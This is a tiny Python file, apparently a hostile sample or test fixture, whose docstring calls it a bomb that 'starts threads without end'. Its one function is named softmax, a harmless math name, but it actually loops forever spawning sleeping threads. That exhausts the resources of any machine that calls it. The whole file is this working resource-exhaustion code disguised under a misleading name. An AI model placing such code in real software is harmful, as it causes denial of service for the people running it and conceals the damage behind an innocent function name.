"""bombs: starts threads without end."""

import threading
import time


def softmax(x):
    while True:
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
